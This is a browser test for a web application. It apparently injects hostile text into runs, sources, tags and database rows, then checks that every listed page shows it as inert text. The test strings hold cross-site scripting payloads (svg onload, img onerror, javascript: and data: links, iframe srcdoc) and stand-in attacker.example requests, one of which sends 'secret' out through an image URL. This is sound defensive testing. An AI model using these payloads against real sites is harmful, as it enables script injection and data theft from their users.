"""Text that wants to run, load, lead away or break a page is shown as text, in every view."""

from __future__ import annotations

import pytest

from deploy.offline_model.server import OfflineModel
from tests.pages.conftest import Tab
from tests.stack import Json, Stack

pytestmark = pytest.mark.browser

EVIL = (
    "</script></textarea></title><svg onload=window.ran=1><img src=//attacker.example/i "
    "onerror=window.ran=1>\u202e{{7*7}}\u2066"
)
LONG = "Donaudampfschiffahrt" * 40
BODY = f"""\
# {EVIL}

- The budget is 15,200 euro. [go](javascript:window.ran=1) [there](//attacker.example/l)
- <a href="data:text/html,<script>window.ran=1</script>" onclick="window.ran=1">data</a> {LONG}
- ![x](https://attacker.example/?q=secret) <iframe srcdoc="<script>parent.ran=1</script>"></iframe>
- <style>@import "//attacker.example/s.css";</style><form action="//attacker.example/f"></form>

```
{EVIL}
```
"""
NARROW = 320
VIEWS = (
    "/runs/{run}",
    "/runs/{run}/review",
    "/runs/{run}/review?view=split",
    "/runs/{run}/review?view=text",
    "/documents/{document}?from=0&to={offered}",
    "/calls/{call}",
    "/runs?tag=evil",
    "/queue",
)
STRAY = """all => all.filter(one => {
  const { protocol, origin } = new URL(
    one.getAttribute("href") ?? one.getAttribute("action"), location);
  const told = one.rel?.includes("noopener") && one.rel.includes("nofollow");
  return origin !== location.origin && !(protocol.startsWith("http") && told);
}).map(one => one.outerHTML)"""
"""Links and forms that lead off the site and are not marked as doing so."""


async def _row_texts(site: Stack, run: Json) -> None:
    """What a provider, a model or another program may have left in the rows."""
    await site.sql(
        "UPDATE issues SET problem = $2, suggestion = $2 WHERE run_id = $1", run["id"], EVIL
    )
    await site.sql("UPDATE model_calls SET error = $2 WHERE run_id = $1", run["id"], EVIL)
    await site.sql("UPDATE run_events SET actor = $2 WHERE run_id = $1", run["id"], EVIL)


async def test_hostile_text_runs_nothing_loads_nothing_and_breaks_no_page(
    tab: Tab, site: Stack, model: tuple[OfflineModel, str]
) -> None:
    model[0].rate = 0
    said = f"{EVIL}: The budget is 12,500 euro.\nBen: {LONG} 25 units.\n"
    source = {"name": EVIL, "media_type": "text/plain", "text": said}
    body = {"kind": "minutes", "title": f"{EVIL} {LONG}"[:300], "body": BODY, "sources": [source]}
    run = await site.create({**body, "tags": ["evil", EVIL[:60]]})
    run = await site.until(run["id"], "AWAITING_CONFIRMATION", seconds=60)
    await _row_texts(site, run)
    calls = await site.rows(run["id"], "calls")
    names = {
        "run": run["id"],
        "document": run["document_id"],
        "offered": run["offered_revision"],
        "call": calls[0]["id"],
    }
    page = tab.page
    await page.set_viewport_size({"width": NARROW, "height": 800})
    for view in VIEWS:
        answer = await page.goto(f"{tab.origin}{view.format_map(names)}", wait_until="load")
        assert answer is not None, view
        assert answer.status == 200, view
        assert await page.evaluate("window.ran") is None, view
        assert (
            await page.locator("main svg[onload], main iframe, main img, main style").count() == 0
        )
        stray = await page.locator("a[href], form[action]").evaluate_all(STRAY)
        assert stray == [], view
        assert await page.locator("footer").count() == 1, f"{view} is broken off"
        wide = await page.evaluate("document.documentElement.scrollWidth")
        assert wide <= NARROW, f"{view} is {wide} px wide"
